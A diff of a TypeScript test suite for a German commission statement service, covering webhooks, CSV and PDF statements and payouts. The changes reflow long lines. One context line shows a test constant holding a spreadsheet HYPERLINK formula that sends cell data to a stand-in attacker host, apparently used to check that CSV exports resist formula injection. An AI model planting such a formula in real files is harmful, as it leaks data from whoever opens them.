@@ -27,12 +27,17 @@ const INJECTION = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
 
 async function webhook(type: string, reference: string, occurredAt: Date) {
   const body = await paymentEventBody(server, { type, reference, occurredAt })
-  const res = await fetch(`${server.url}/api/v1/payments/webhook`, { method: 'POST', body, headers: { 'content-type': 'application/json', [SIGNATURE_HEADER]: signWebhook(server.app.ctx.config.paymentWebhookSecret, body) } })
+  const res = await fetch(`${server.url}/api/v1/payments/webhook`, {
+    method: 'POST',
+    body,
+    headers: { 'content-type': 'application/json', [SIGNATURE_HEADER]: signWebhook(server.app.ctx.config.paymentWebhookSecret, body) },
+  })
   expect(res.status).toBe(200)
 }
 
 async function paidOrder(client: Client, quantity: number, refund = false): Promise<Order> {
-  const order = (await client.post('/api/v1/orders', { items: [{ productId: product.id, quantity }], idempotencyKey: `st-${randomBytes(6).toString('hex')}` })).body as Order
+  const order = (await client.post('/api/v1/orders', { items: [{ productId: product.id, quantity }], idempotencyKey: `st-${randomBytes(6).toString('hex')}` }))
+    .body as Order
   await webhook('payment.paid', order.payment.reference, paidAt)
   if (refund) await webhook('payment.refunded', order.payment.reference, new Date(paidAt.getTime() + 3_600_000))
   placed.push(order)
@@ -54,7 +59,7 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const ch = text[i]!
     if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"', i++)
+      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++)
       else if (ch === '"') quoted = false
       else cell += ch
     } else if (ch === '"') quoted = true
@@ -133,7 +138,10 @@ describe('statement as CSV', () => {
     expect(res.headers.get('cache-control')).toBe('private, no-store')
     const rows = csvOf(res.bytes)
     expect(rows.slice(0, 4)).toEqual([
-      ['Provisionsabrechnung', 'Vernetzt'], ['Partner', 'Änne Böhm-Groß (@st-top)'], ['Zeitraum', last], ['Status', 'vorläufig'],
+      ['Provisionsabrechnung', 'Vernetzt'],
+      ['Partner', 'Änne Böhm-Groß (@st-top)'],
+      ['Zeitraum', last],
+      ['Status', 'vorläufig'],
     ])
     const header = rows.findIndex((r) => r[0] === 'Datum')
     expect(rows[header]).toEqual(['Datum', 'Bestellnummer', 'Ebene', 'Art', 'Basis (EUR)', 'Satz (%)', 'Betrag (EUR)'])
@@ -209,13 +217,27 @@ describe('statement as PDF', () => {
 
   it('breaks a long statement over pages, repeating the table header and numbering every page', async () => {
     const entries = Array.from({ length: 100 }, (_, i) => ({
-      id: new Types.ObjectId().toString(), orderId: new Types.ObjectId().toString(), orderNumber: `B-2026-${String(i + 1).padStart(6, '0')}`,
-      level: (i % 5) + 1, kind: 'credit' as const, rateBp: 1000, amountCents: 1234, baseCents: 12_340, planVersion: 1, period: '2026-03', createdAt: '2026-03-10T10:00:00.000Z',
+      id: new Types.ObjectId().toString(),
+      orderId: new Types.ObjectId().toString(),
+      orderNumber: `B-2026-${String(i + 1).padStart(6, '0')}`,
+      level: (i % 5) + 1,
+      kind: 'credit' as const,
+      rateBp: 1000,
+      amountCents: 1234,
+      baseCents: 12_340,
+      planVersion: 1,
+      period: '2026-03',
+      createdAt: '2026-03-10T10:00:00.000Z',
     }))
     const s: Statement = {
-      period: '2026-03', closed: true, member: { id: top.me.id, handle: 'st-top', displayName: 'Zoë 🚀 Ünal', role: 'partner', avatarUrl: null },
-      totalCents: 100 * 1234, creditsCents: 100 * 1234, reversalsCents: 0,
-      perLevel: [1, 2, 3, 4, 5].map((level) => ({ level, amountCents: 20 * 1234, salesCents: 20 * 12_340, orders: 20 })), entries,
+      period: '2026-03',
+      closed: true,
+      member: { id: top.me.id, handle: 'st-top', displayName: 'Zoë 🚀 Ünal', role: 'partner', avatarUrl: null },
+      totalCents: 100 * 1234,
+      creditsCents: 100 * 1234,
+      reversalsCents: 0,
+      perLevel: [1, 2, 3, 4, 5].map((level) => ({ level, amountCents: 20 * 1234, salesCents: 20 * 12_340, orders: 20 })),
+      entries,
     }
     const pdf = await statementPdf(s, { company: 'Beispiel GmbH' })
     const pages = pdf.toString('latin1').match(/\/Type \/Page\b/g)?.length ?? 0
@@ -262,7 +284,12 @@ describe('payouts of a period', () => {
     expect(list.items).toHaveLength(13)
     expect(list.items[0]).toMatchObject({ period: current, status: 'open', closedAt: null, closable: false })
     const closed = list.items[1]!
-    expect(closed).toMatchObject({ period: last, status: 'closed', closable: false, totals: { creditsCents: 6900, reversalsCents: -3600, totalCents: 3300, entries: 11 } })
+    expect(closed).toMatchObject({
+      period: last,
+      status: 'closed',
+      closable: false,
+      totals: { creditsCents: 6900, reversalsCents: -3600, totalCents: 3300, entries: 11 },
+    })
     expect(Date.parse(closed.closedAt!)).toBeGreaterThan(Date.now() - 60_000)
     expect(list.items[2]).toMatchObject({ period: previousPeriod(last), status: 'open', closable: true, totals: { totalCents: 0, payees: 0 } })
 
